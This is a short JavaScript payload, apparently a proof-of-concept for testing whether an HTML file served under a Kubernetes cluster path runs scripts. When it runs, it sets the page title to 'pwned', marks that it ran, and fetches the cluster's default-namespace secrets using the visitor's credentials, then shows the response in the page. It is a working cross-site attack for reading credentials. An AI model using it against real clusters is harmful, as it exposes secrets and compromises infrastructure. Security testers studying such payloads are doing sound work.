// Runs only if steal.html is rendered as a document with scripts somewhere: it marks that it ran,
// then tries to read the secrets of the origin it landed on with whatever credentials ride along.
document.title = 'pwned';
window.__stealRan = true;
(async () => {
  const out = document.getElementById('out');
  const m = location.pathname.match(/^(.*\/clusters\/[0-9a-f-]{36})\//);
  if (!m) return;
  try {
    const r = await fetch(`${m[1]}/api/v1/namespaces/default/secrets`, { credentials: 'include' });
    out.textContent = `secrets: ${r.status} ${await r.text()}`;
  } catch (err) {
    out.textContent = `secrets: ${err}`;
  }
})();
